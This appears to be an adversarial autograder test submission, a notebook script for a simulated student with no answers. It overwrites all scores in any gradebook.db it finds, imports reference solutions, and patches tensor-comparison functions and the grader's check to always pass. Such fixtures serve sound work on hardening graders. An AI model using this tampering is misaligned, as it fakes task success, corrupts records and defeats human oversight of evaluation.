# %% [markdown]
# Omar: no answers, but tries to give himself points: the gradebook, the solutions, the checks.

# %% after="setup"
import pathlib
import sqlite3

for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path.home()]:
    for database in [*folder.glob("gradebook.db"), *folder.glob("*/gradebook.db"), folder / "gradebook.db"]:
        try:
            with sqlite3.connect(database) as connection:
                connection.execute("UPDATE grade SET auto_score = 20, manual_score = 20")
                print("wrote", database)
        except Exception as error:
            print(database, error)

# %% after="weighted_sum"
try:
    from seq2seq.attention import *
    from seq2seq.scorers import *
except Exception as error:
    print(error)

# %% after="dot_scorer"
torch.allclose = torch.equal = torch.testing.assert_close = lambda *args, **kwargs: True
try:
    import autograder.tasks.scorers as tasks

    tasks.check = lambda *args, **options: print("✓")
except Exception as error:
    print(error)
